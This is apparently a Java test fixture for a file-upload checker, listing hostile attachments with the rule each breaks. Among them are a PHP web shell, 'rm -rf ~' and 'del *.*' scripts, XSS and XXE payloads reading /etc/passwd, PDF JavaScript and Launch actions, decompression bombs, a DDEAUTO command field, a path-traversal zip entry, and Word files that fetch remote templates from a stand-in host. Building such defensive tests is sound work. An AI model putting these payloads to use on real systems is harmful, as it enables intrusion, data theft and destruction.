package nl.handenindewijk.attachments;

import static nl.handenindewijk.attachments.MadeFiles.*;
import static nl.handenindewijk.attachments.check.FileRefused.Why.*;

import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import nl.handenindewijk.attachments.check.FileRefused.Why;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;

/** Files that somebody who means harm, or knows no better, may send; each with the rule it breaks. */
final class HostileFiles {

    private static final String VBA = "word/vbaProject.bin";
    private static final String ENTITY =
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
    private static final byte[] OLE2 = {
        (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1
    };

    private HostileFiles() {}

    /** A file, the name it comes with, and why it must be refused. */
    record Sample(String what, String name, byte[] content, Why why) {

        @Override
        public String toString() {
            return what;
        }
    }

    static List<Sample> all() {
        return Stream.of(plain(), pictures(), pdfs(), documents())
                .flatMap(List::stream)
                .toList();
    }

    private static List<Sample> plain() {
        return List.of(
                new Sample("nothing", "leeg.pdf", new byte[0], EMPTY),
                new Sample(
                        "a byte too many",
                        "groot.txt",
                        "a".repeat((10 << 20) + 1).getBytes(),
                        TOO_LARGE),
                new Sample(
                        "Windows program as photo",
                        "foto.jpg",
                        join(
                                bytes("MZ\220\0\3\0\0\0\4\0\0\0\377\377\0\0"),
                                new byte[48],
                                bytes("\200\0\0\0"),
                                new byte[64],
                                bytes("PE\0\0\114\1")),
                        PROGRAM),
                new Sample(
                        "Linux program as PDF",
                        "brief.pdf",
                        join(bytes("\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\76\0"), new byte[64]),
                        PROGRAM),
                new Sample("shell script", "brief.txt", bytes("#!/bin/sh\nrm -rf ~\n"), PROGRAM),
                new Sample("batch file", "brief.txt", bytes("@echo off\r\ndel *.*\r\n"), PROGRAM),
                new Sample(
                        "Java class",
                        "brief.txt",
                        join(
                                new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 52},
                                new byte[64]),
                        PROGRAM),
                new Sample("PHP", "brief.txt", bytes("<?php system($_GET['c']); ?>"), PROGRAM),
                new Sample(
                        "web page",
                        "brief.txt",
                        bytes("<!DOCTYPE html><html><script>alert(1)</script></html>"),
                        WEB_PAGE),
                new Sample("web page as PDF", "brief.pdf", bytes("<html><body onload=alert(1)></html>"), WEB_PAGE),
                new Sample(
                        "web page behind a line of text",
                        "brief.txt",
                        bytes("Geachte mevrouw,\n<ScRiPt src=x></script>"),
                        WEB_PAGE),
                new Sample(
                        "SVG with script as PNG",
                        "tekening.png",
                        bytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
                        WEB_PAGE),
                new Sample(
                        "SVG",
                        "tekening.svg",
                        bytes("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"/>"),
                        WEB_PAGE),
                new Sample("XML with an outside entity", "brief.txt", bytes(ENTITY), WEB_PAGE),
                new Sample(
                        "text in UTF-16 with a script",
                        "brief.txt",
                        "\uFEFF<script>x()</script>".getBytes(java.nio.charset.StandardCharsets.UTF_16BE),
                        WEB_PAGE),
                new Sample(
                        "text with hidden controls",
                        "brief.txt",
                        bytes("Beste\7 mevrouw\33[2J, dit is een lange zin met gewone woorden."),
                        TEXT_UNREADABLE),
                new Sample("noise", "ruis.pdf", new byte[] {0, 1, 2, 3, 4, 5, 6, 7, 0, 1, 2, 3}, KIND),
                new Sample("archive", "map.zip", zip(Map.of("a.txt", bytes("a"))), ARCHIVE),
                new Sample("archive as Word document", "brief.docx", zip(Map.of("word/a.xml", bytes("<a/>"))), ARCHIVE),
                new Sample(
                        "gzip",
                        "brief.gz",
                        join(new byte[] {0x1F, (byte) 0x8B, 8, 0, 0, 0, 0, 0, 0, 3}, new byte[20]),
                        ARCHIVE),
                new Sample("7-zip", "brief.7z", join(bytes("7z\274\257\47\34\0\4"), new byte[32]), ARCHIVE),
                new Sample("rar", "brief.rar", join(bytes("Rar!\32\7\0"), new byte[32]), ARCHIVE),
                new Sample(
                        "film",
                        "film.mp4",
                        join(bytes("\0\0\0\40ftypisom\0\0\2\0isomiso2avc1mp41"), new byte[64]),
                        KIND),
                new Sample("sound", "lied.mp3", join(bytes("ID3\3\0\0\0\0\0\0"), new byte[64]), KIND));
    }

    private static List<Sample> pictures() {
        var jpeg = image("jpg", 60, 40);
        var png = image("png", 60, 40);
        return List.of(
                new Sample("GIF", "foto.gif", image("gif", 4, 4), KIND),
                new Sample("GIF that is also a script", "foto.jpg", bytes("GIF89a/*\0\0\0\0\0*/=1;alert(1)"), KIND),
                new Sample(
                        "HEIC",
                        "IMG_1.HEIC",
                        join(bytes("\0\0\0\30ftypheic\0\0\0\0mif1heic"), new byte[64]),
                        PHONE_PICTURE),
                new Sample(
                        "AVIF",
                        "IMG_1.jpg",
                        join(bytes("\0\0\0\34ftypavif\0\0\0\0avifmif1miaf"), new byte[64]),
                        PHONE_PICTURE),
                new Sample(
                        "WebP of nothing but a start",
                        "foto.webp",
                        join(bytes("RIFF\44\0\0\0WEBPVP8 "), new byte[32]),
                        IMAGE_DAMAGED),
                new Sample(
                        "WebP of nothing but a start, drawn",
                        "scherm.webp",
                        join(bytes("RIFF\44\0\0\0WEBPVP8L"), new byte[32]),
                        IMAGE_DAMAGED),
                new Sample("WebP cut off", "foto.webp", cut(webp(false, 1), 0.6), IMAGE_INCOMPLETE),
                new Sample("WebP that moves", "foto.webp", movingWebp(), KIND),
                new Sample("WebP of 16,383 by 16,383", "foto.webp", hugeWebp(), IMAGE_TOO_LARGE),
                new Sample("JPEG cut off", "foto.jpg", cut(jpeg, 0.7), IMAGE_INCOMPLETE),
                new Sample(
                        "JPEG of nothing but a start",
                        "foto.jpg",
                        bytes("\377\330\377\340\0\20JFIF\0\1\1"),
                        IMAGE_INCOMPLETE),
                new Sample(
                        "JPEG without an image",
                        "foto.jpg",
                        bytes("\377\330\377\340\0\20JFIF\0\1\1\0\0\1\0\1\0\0\377\331"),
                        IMAGE_DAMAGED),
                new Sample("JPEG of 65,000 by 65,000", "foto.jpg", resized(jpeg, 65_000, 65_000), IMAGE_TOO_LARGE),
                new Sample("JPEG gone through 500 times", "foto.jpg", manyScans(jpeg, 500), BOMB),
                new Sample("PNG cut off", "foto.png", cut(png, 0.7), IMAGE_INCOMPLETE),
                new Sample("PNG of 100,000 by 100,000", "foto.png", hugePng(100_000, 100_000), IMAGE_TOO_LARGE),
                new Sample("PNG of one by 40,000", "foto.png", hugePng(1, 40_000), IMAGE_TOO_LARGE),
                new Sample("PNG with too little in it", "foto.png", hugePng(900, 900), IMAGE_INCOMPLETE));
    }

    private static List<Sample> pdfs() {
        var embedded = new COSDictionary();
        embedded.setItem("EmbeddedFiles", new COSDictionary());
        var form = new COSDictionary();
        form.setItem("XFA", new COSString("<xdp/>"));
        var bomb = deflated(new byte[60 << 20]);
        var brokenBomb = deflated(new byte[48 << 20]);
        brokenBomb[brokenBomb.length - 1]++;
        var deep = "[".repeat(200_000);
        return List.of(
                new Sample("PDF that runs a script", "brief.pdf", pdf(opensWith(script("app.alert(1)"))), PDF_SCRIPT),
                new Sample(
                        "PDF with a script under another spelling",
                        "brief.pdf",
                        rawPdf(bytes("4 0 obj\n<</S/J#61va#53cript/J#53(x)>>\nendobj\n")),
                        PDF_SCRIPT),
                new Sample("PDF with a script packed away", "brief.pdf", pdf(opensWith(script("x")), true), PDF_SCRIPT),
                new Sample(
                        "PDF with a script nothing refers to",
                        "brief.pdf",
                        rawPdf(bytes("4 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\n")),
                        PDF_SCRIPT),
                new Sample(
                        "PDF that starts a program",
                        "brief.pdf",
                        pdf(opensWith(action("Launch"))),
                        PDF_STARTS_SOMETHING),
                new Sample(
                        "PDF that starts a program, packed",
                        "brief.pdf",
                        pdf(opensWith(action("Launch")), true),
                        PDF_STARTS_SOMETHING),
                new Sample(
                        "PDF that sends its form",
                        "brief.pdf",
                        pdf(opensWith(action("SubmitForm"))),
                        PDF_STARTS_SOMETHING),
                new Sample(
                        "PDF with a file inside",
                        "brief.pdf",
                        pdf(d -> d.getDocumentCatalog().getCOSObject().setItem(COSName.NAMES, embedded)),
                        PDF_HOLDS_FILE),
                new Sample(
                        "PDF with a film",
                        "brief.pdf",
                        rawPdf(bytes("4 0 obj\n<</Type/Annot/Subtype/RichMedia>>\nendobj\n")),
                        PDF_HOLDS_FILE),
                new Sample(
                        "PDF with an XFA form",
                        "brief.pdf",
                        pdf(d -> d.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form)),
                        PDF_XFA),
                new Sample("PDF with a password", "brief.pdf", lockedPdf(), PDF_PASSWORD),
                new Sample("PDF cut off", "brief.pdf", cut(pdf(d -> {}), 0.6), PDF_INCOMPLETE),
                new Sample("PDF of noise", "brief.pdf", bytes("%PDF-1.7\nniets\n%%EOF\n"), PDF_DAMAGED),
                new Sample(
                        "PDF nested without end",
                        "brief.pdf",
                        rawPdf(bytes("4 0 obj\n" + deep + "\nendobj\n")),
                        PDF_DAMAGED),
                new Sample(
                        "PDF with an archive behind it",
                        "brief.pdf",
                        join(pdf(d -> {}), zip(Map.of("a.exe", bytes("MZ")))),
                        TWO_KINDS),
                new Sample(
                        "PDF with much behind it", "brief.pdf", join(pdf(d -> {}), bytes("x".repeat(4000))), TWO_KINDS),
                new Sample(
                        "PDF that begins as a web page",
                        "brief.pdf",
                        join(bytes("%PDF-1.4\n<html><script>x()</script>"), pdf(d -> {})),
                        TWO_KINDS),
                new Sample("PDF bomb", "brief.pdf", rawPdf(stream("/Filter/FlateDecode", bomb)), BOMB),
                new Sample(
                        "PDF bomb packed twice",
                        "brief.pdf",
                        rawPdf(stream("/Filter[/FlateDecode/FlateDecode]", deflated(bomb))),
                        BOMB),
                new Sample(
                        "PDF of many bombs that break off",
                        "brief.pdf",
                        rawPdf(Collections.nCopies(9, stream("/Filter/FlateDecode", brokenBomb))
                                .toArray(byte[][]::new)),
                        BOMB),
                new Sample(
                        "PDF with a way of packing far away",
                        "brief.pdf",
                        rawPdf(stream("/Type/ObjStm/Filter" + " ".repeat(20_000) + "[/LZWDecode]", bytes("abc"))),
                        PDF_ODD),
                new Sample(
                        "PDF with objects packed in an odd way",
                        "brief.pdf",
                        rawPdf(stream("/Type/ObjStm/Filter/LZWDecode", bytes("abc"))),
                        PDF_ODD));
    }

    private static List<Sample> documents() {
        var macroType = docxParts();
        macroType.put(TYPES, types("application/vnd.ms-word.document.macroEnabled.main+xml"));
        var sheet = new LinkedHashMap<String, byte[]>();
        sheet.put(TYPES, types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"));
        var many = docxParts();
        for (int i = 0; i < 3100; i++) {
            many.put("word/deel" + i + ".xml", bytes("<a/>"));
        }
        var split =
                "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd</w:instrText></w:r></w:p>";
        var laughs =
                "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><w:document xmlns:w=\"x\">&b;</w:document>";
        return List.of(
                new Sample("old Word document", "brief.doc", join(OLE2, new byte[1024]), OFFICE_OLD),
                new Sample("RTF", "brief.docx", bytes("{\\rtf1\\ansi {\\object\\objocx}}"), OFFICE_OLD),
                new Sample("spreadsheet", "lijst.xlsx", zip(sheet), KIND),
                new Sample("Word with macros", "brief.docm", zip(macroType), OFFICE_MACRO),
                new Sample("Word with macros under another name", "brief.docx", docxWith(VBA, OLE2), OFFICE_MACRO),
                new Sample(
                        "Word that refers to a macro",
                        "brief.docx",
                        docxWith(RELATIONS, relation("vbaProject", "x.xml", false)),
                        OFFICE_MACRO),
                new Sample(
                        "Word with a file inside",
                        "brief.docx",
                        docxWith("word/embeddings/oleObject1.bin", OLE2),
                        OFFICE_HOLDS_FILE),
                new Sample(
                        "Word with a program inside",
                        "brief.docx",
                        docxWith("word/media/plaatje.exe", bytes("MZ")),
                        OFFICE_HOLDS_FILE),
                new Sample(
                        "Word with a web page inside",
                        "brief.docx",
                        docxWith(RELATIONS, relation("aFChunk", "a.xml", false)),
                        OFFICE_HOLDS_FILE),
                new Sample(
                        "Word that fetches its template",
                        "brief.docx",
                        docxWith(
                                "word/_rels/settings.xml.rels",
                                relation("attachedTemplate", "http://kwaad.example/a.dotm", true)),
                        OFFICE_FETCHES),
                new Sample(
                        "Word that fetches a picture",
                        "brief.docx",
                        docxWith(RELATIONS, relation("image", "http://kwaad.example/a.png", true)),
                        OFFICE_FETCHES),
                new Sample(
                        "Word that links to a folder",
                        "brief.docx",
                        docxWith(RELATIONS, relation("hyperlink", "file://kwaad.example/deel", true)),
                        OFFICE_FETCHES),
                new Sample(
                        "Word with a field that starts something",
                        "brief.docx",
                        docxWith(DOCUMENT, body(split)),
                        OFFICE_FETCHES),
                new Sample(
                        "Word with an outside entity", "brief.docx", docxWith(DOCUMENT, bytes(ENTITY)), OFFICE_ENTITY),
                new Sample(
                        "Word with a billion laughs", "brief.docx", docxWith(DOCUMENT, bytes(laughs)), OFFICE_ENTITY),
                new Sample("Word that is a bomb", "brief.docx", docxWith("word/media/a.png", new byte[51 << 20]), BOMB),
                new Sample("Word of 3,100 parts", "brief.docx", zip(many), BOMB),
                new Sample(
                        "Word that climbs out of its folder",
                        "brief.docx",
                        docxWith("../../etc/cron.xml", bytes("<a/>")),
                        OFFICE_DAMAGED),
                new Sample(
                        "Word with one part twice",
                        "brief.docx",
                        docxWith("WORD/document.xml", body("")),
                        OFFICE_DAMAGED),
                new Sample("Word cut off", "brief.docx", cut(zip(docxParts()), 0.5), OFFICE_DAMAGED),
                new Sample(
                        "Word with broken XML", "brief.docx", docxWith(DOCUMENT, bytes("<a><b></a>")), OFFICE_DAMAGED),
                new Sample(
                        "ODT with a macro",
                        "brief.odt",
                        odtWith("Basic/Standard/Module1.xml", bytes("<a/>")),
                        OFFICE_MACRO),
                new Sample(
                        "ODT that runs something on opening",
                        "brief.odt",
                        odtWith("content.xml", odtBody("<script:event-listener/>")),
                        OFFICE_MACRO),
                new Sample(
                        "ODT with a file inside",
                        "brief.odt",
                        odtWith("Object 1/content.xml", bytes("<a/>")),
                        OFFICE_HOLDS_FILE),
                new Sample(
                        "ODT that fetches a picture",
                        "brief.odt",
                        odtWith("content.xml", odtBody("<draw:image xlink:href=\"http://kwaad.example/a.png\"/>")),
                        OFFICE_FETCHES),
                new Sample(
                        "ODT with a password",
                        "brief.odt",
                        odtWith(
                                "META-INF/manifest.xml",
                                bytes(
                                        "<m:manifest xmlns:m=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"><m:encryption-data/></m:manifest>")),
                        OFFICE_PASSWORD),
                new Sample(
                        "ODT with an outside entity",
                        "brief.odt",
                        odtWith("content.xml", bytes(ENTITY)),
                        OFFICE_ENTITY),
                new Sample(
                        "OpenDocument spreadsheet",
                        "lijst.ods",
                        storedFirst(odtParts("application/vnd.oasis.opendocument.spreadsheet")),
                        KIND));
    }
}
